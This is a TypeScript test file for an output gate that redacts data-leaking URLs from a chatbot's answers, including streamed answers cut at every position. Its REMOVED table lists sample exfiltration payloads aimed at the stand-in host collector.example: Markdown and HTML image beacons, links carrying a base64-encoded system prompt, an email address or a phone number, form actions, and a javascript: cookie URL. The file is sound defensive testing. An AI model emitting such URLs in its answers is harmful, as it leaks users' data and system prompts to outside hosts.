/**
 * Issue 19 item 1: the egress check. Every URL form a client fetches or offers is found by
 * grammar (Markdown, HTML, CSS, bare), images off the allow-list are removed or block, links
 * off the allow-list that carry data are redacted to their text, plain links pass — in whole
 * answers and in streams cut at every position, with no released byte inside a removed URL.
 * Hosts are made up (`*.example`, `*.invalid` style); base64 payloads encode made-up text.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parseConfig, RampartError } from "../../src/core/index.js";
import { collectGateStream, compileGatePolicy, deterministicGate, gateAnswer, gateStream } from "../../src/gate/index.js";
import { carriesData, extractUrls, hostList, isOpaque } from "../../src/gate/egress/index.js";
import { cut, tokensOf } from "../helpers/stream.js";

const policy = compileGatePolicy(parseConfig({ gate: { egress: { allow: { images: ["cdn.allowed.example"], links: ["*.allowed.example"] } } } }));
const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64");
const PROMPT_B64 = b64("너는 채용 담당자를 돕는 이력서 안내 챗봇이다");

/** [answer, the text it becomes, why]. */
const REMOVED: readonly (readonly [string, string, string])[] = [
  ["![x](https://collector.example/p?d=abc)", "[REDACTED:IMAGE]", "Markdown image, EchoLeak shape"],
  ["![](https://collector.example/p.png)", "[REDACTED:IMAGE]", "image without data: images never pass off-list"],
  ["![a](<https://collector.example/a b.png>)", "[REDACTED:IMAGE]", "angle-bracket destination"],
  ["![a](https://collector.example/x.png \"title\")", "[REDACTED:IMAGE]", "with a title"],
  ["![a](https://collector.example/x.png \"t(\")", "[REDACTED:IMAGE]", "a title with an unbalanced parenthesis"],
  ["![logo][1]\n\n[1]: https://collector.example/x.png", "![logo][1]\n\n[REDACTED:IMAGE]", "reference-style image: its definition goes"],
  ["![logo]\n\n[logo]: <https://collector.example/x.png>", "![logo]\n\n[REDACTED:IMAGE]", "shortcut reference, angle destination"],
  ['<img src="https://t.collector.example/b.gif" width="1" height="1">', "[REDACTED:IMAGE]", "1×1 HTML beacon"],
  ["<IMG SRC=https://collector.example/b.gif>", "[REDACTED:IMAGE]", "upper case, unquoted"],
  ['<img srcset="a.png 1x, https://collector.example/b.png 2x">', "[REDACTED:IMAGE]", "srcset"],
  ['<iframe src="//collector.example/f"></iframe>', "[REDACTED:IMAGE]</iframe>", "protocol-relative iframe"],
  ['<script src="https://collector.example/x.js"></script>', "[REDACTED:IMAGE]</script>", "script"],
  ['<link rel="stylesheet" href="https://collector.example/s.css">', "[REDACTED:IMAGE]", "stylesheet link element"],
  ['<meta http-equiv="refresh" content="0;url=https://collector.example/?x=1">', "[REDACTED:IMAGE]", "meta refresh"],
  ["<div style=\"background:url('https://collector.example/a.png')\">x</div>", "[REDACTED:IMAGE]x</div>", "CSS url() in a style attribute"],
  ["<style>@import \"https://collector.example/s.css\";</style>", "<style>[REDACTED:IMAGE];</style>", "CSS @import"],
  ['<video poster="https://collector.example/p.jpg"></video>', "[REDACTED:IMAGE]</video>", "video poster"],
  ['<img alt="<" src="https://collector.example/z.png">', '<img alt="<" src="[REDACTED:IMAGE]">', "an attribute value holding `<` (bare-URL pass, classified by `src=`)"],
  ['<img src=&quot;https&#58;//collector.example/q.png&quot;>', "[REDACTED:IMAGE]", "character references in the URL"],
  ["![x](ｈｔｔｐｓ://collector.example/p.png)", "[REDACTED:IMAGE]", "fullwidth scheme"],
  // Links that carry data: redacted to their text.
  [`[참고 문서](https://collector.example/?q=${PROMPT_B64})`, "참고 문서", "base64 of the system prompt in the query"],
  ["[docs](https://collector.example/log?session=hk29Xq81Lm40Zp77Rt)", "docs", "an opaque token in the query"],
  ["[profile](https://collector.example/u?member=83920174)", "profile", "a number the text does not show"],
  [`[home](https://collector.example/${b64("harin.do.dev@example.com")}/x)`, "home", "encoded path segment"],
  ["[home](https://4f2a9c1e8b7d6a5f4e3d2c1b.collector.example/)", "home", "hex subdomain label"],
  ["[site](https://collector.example/#k=SGVsbG8gd29ybGQgc2VjcmV0)", "site", "encoded fragment parameter"],
  ['<a href="https://collector.example/?token=abcdefghijklmnop">여기</a>', "여기</a>", "HTML anchor with a hidden query value"],
  ['<form action="https://collector.example/c?u=0104821739512"><button>x</button></form>', "<button>x</button></form>", "form action"],
  [`https://collector.example/l?d=${PROMPT_B64} 끝`, "[REDACTED:LINK] 끝", "bare URL with an encoded query"],
  ["<https://collector.example/?d=Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5>", "[REDACTED:LINK]", "autolink with an encoded query"],
  ["[a](javascript:alert(document.cookie))", "a", "script URL"],
  [`[https://collector.example/?d=${PROMPT_B64}](https://collector.example/?d=${PROMPT_B64})`, "[REDACTED:LINK]", "a link whose text is the URL"],
];

/** [answer, why it must pass untouched]. */
const KEPT: readonly (readonly [string, string])[] = [
  ["[파이썬 정규식 문서](https://docs.python.org/3/library/re.html)", "plain link without data"],
  ["see https://example.com/search?q=rampart for more", "short readable query"],
  ["위키 https://ko.wikipedia.org/wiki/%EC%84%9C%EC%9A%B8 참고", "percent-encoded Korean page name"],
  ["[설치](https://example.com/docs/getting-started#installation)", "fragment anchor"],
  ["[이슈 19](https://github.com/example/rampart/issues/19)", "issue link"],
  ["![logo](https://cdn.allowed.example/logo.png)", "allow-listed image host"],
  ["![logo](/static/logo.png)", "relative image: the app's own origin"],
  ["![dot](data:image/png;base64,iVBORw0KGgo=)", "data: URL fetches nothing"],
  [`[docs](https://docs.allowed.example/?q=${PROMPT_B64})`, "allow-listed link host (wildcard)"],
  ["[RFC 3986 §3.2.1](https://www.rfc-editor.org/rfc/rfc3986#section-3.2.1)", "standard document with a section anchor"],
  ["배열 a[i](j) 와 [1] 각주", "brackets in prose and code"],
  ["www.example.com 에서 확인하세요.", "bare www host"],
  ["version 2.1.0 (see notes) and 3.14 // comment", "version numbers and a code comment"],
];

describe("egress: every URL form is found and handled by policy", () => {
  it.each(REMOVED)("%s → %s (%s)", async (answer, expected) => {
    const v = await gateAnswer(answer, policy);
    expect(v.action, JSON.stringify(v.findings)).toBe("redact");
    expect(v.action === "redact" && v.text).toBe(expected);
    expect(v.findings.some((f) => f.id === "egress")).toBe(true);
  });

  it.each(KEPT)("%s passes (%s)", async (answer) => {
    const v = await gateAnswer(answer, policy);
    expect(v.action, JSON.stringify(v.findings)).toBe("pass");
  });

  it("gate.egress.images: block stops the answer with ERR_LEAK_EGRESS; links keep their own policy", () => {
    const blocking = compileGatePolicy(parseConfig({ gate: { egress: { images: "block" } } }));
    const img = deterministicGate("ok ![x](https://collector.example/p.png)", blocking);
    expect(img.action === "block" && img.code).toBe("ERR_LEAK_EGRESS");
    const link = deterministicGate(`[a](https://collector.example/?q=${PROMPT_B64})`, blocking);
    expect(link.action).toBe("redact");
  });

  it("a masking probe blocks on any egress finding", () => {
    const v = deterministicGate("![x](https://collector.example/p.png)", policy, { probe: "masking" });
    expect(v.action === "block" && v.code).toBe("ERR_LEAK_EGRESS");
  });

  it("findings carry the original span and the text they replaced", async () => {
    const answer = "앞 ![x](https://collector.example/p.png) 뒤";
    const v = await gateAnswer(answer, policy);
    const f = v.findings.find((x) => x.id === "egress");
    expect(f?.category).toBe("egress.image");
    expect(f && answer.slice(f.start, f.end)).toBe("![x](https://collector.example/p.png)");
    expect(f?.original).toBe("![x](https://collector.example/p.png)");
  });

  it("a bad allow-list host is a config error naming the key", () => {
    expect(() => parseConfig({ gate: { egress: { allow: { images: ["https://x.example/"] } } } })).toThrow(/gate\.egress\.allow\.images/);
    expect(() => hostList(["exa mple.com"])).toThrow(/not a host name/);
    expect(() => parseConfig({ gate: { egress: { images: "allow" } } })).toThrow(RampartError);
  });
});

describe("egress parts", () => {
  it("host patterns: exact host, or *. for the subdomains only; canonical forms compared", () => {
    const l = hostList(["cdn.example.com", "*.example.org"]);
    expect([l.allows("cdn.example.com"), l.allows("CDN.example.com."), l.allows("x.cdn.example.com")]).toEqual([true, true, false]);
    expect([l.allows("img.example.org"), l.allows("example.org")]).toEqual([true, false]);
    expect(hostList([]).allows("example.com")).toBe(false); // deny by default
  });

  it.each([
    ["SGVsbG8gd29ybGQgc3lzdGVtIHByb21wdA==", true, "base64 of text"],
    ["9f86d081884c7d659a2feaa0c55ad015", true, "hex digest"],
    ["hk29Xq81Lm40Zp77Rt", true, "random mixed token"],
    ["getting-started-with-rampart", false, "slug"],
    ["installation", false, "word"],
    ["2024_annual_report", false, "dated slug"],
  ])("isOpaque(%s) = %s (%s)", (token, expected) => {
    expect(isOpaque(token)).toBe(expected);
  });

  it("carriesData names why, or null", () => {
    expect(carriesData(new URL("https://docs.python.org/3/library/re.html"), "re")).toBeNull();
    expect(carriesData(new URL("https://x.example/?q=hello"), "search")).toBeNull();
    expect(carriesData(new URL("https://x.example/?q=01048217395"), "search")).toMatch(/number/);
    expect(carriesData(new URL("https://x.example/?q=01048217395"), "x.example/?q=01048217395")).toBeNull();
    expect(carriesData(new URL("https://a.b.c.x.example/"), "x")).toMatch(/subdomain/);
    expect(carriesData(new URL("https://u:p@x.example/"), "x")).toBe("userinfo");
  });

  it("the extractor classifies images and links by grammar", () => {
    const kinds = extractUrls('[a](https://l.example/) ![b](https://i.example/) <a href="https://l2.example/">x</a> <img src="https://i2.example/">').map((o) => o.kind);
    expect(kinds).toEqual(["link", "image", "link", "image"]);
  });
});

describe("egress on the stream: no released byte inside a removed URL", () => {
  const answers = REMOVED.map(([a]) => `앞 문장입니다. ${a} 뒤 문장입니다.`);

  it.each(answers.map((a) => [a.slice(0, 60), a] as const))("every single cut position: %s", async (_label, answer) => {
    const whole = await gateAnswer(answer, policy);
    expect(whole.action).toBe("redact");
    for (let i = 0; i <= answer.length; i++) {
      const out = await collectGateStream(gateStream(tokensOf([answer.slice(0, i), answer.slice(i)]), policy));
      expect(out.blocked, `cut at ${i}`).toBeNull();
      expect(out.text, `cut at ${i}`).toBe(whole.action === "redact" ? whole.text : "");
    }
  });

  it("random cuts (fast-check): the stream releases exactly the whole answer's redacted text", async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...answers), fc.array(fc.nat(400), { maxLength: 30 }), async (answer, cuts) => {
        const whole = await gateAnswer(answer, policy);
        const out = await collectGateStream(gateStream(tokensOf(cut(answer, cuts)), policy));
        expect(out.blocked).toBeNull();
        expect(out.text).toBe(whole.action === "redact" ? whole.text : answer);
      }),
      { numRuns: 150 },
    );
  });

  it("one character per token: the host of a removed image never reaches the client", async () => {
    for (const answer of answers) {
      const out = await collectGateStream(gateStream(tokensOf([...answer]), policy));
      expect(out.text).not.toContain("collector.example");
    }
  });
});
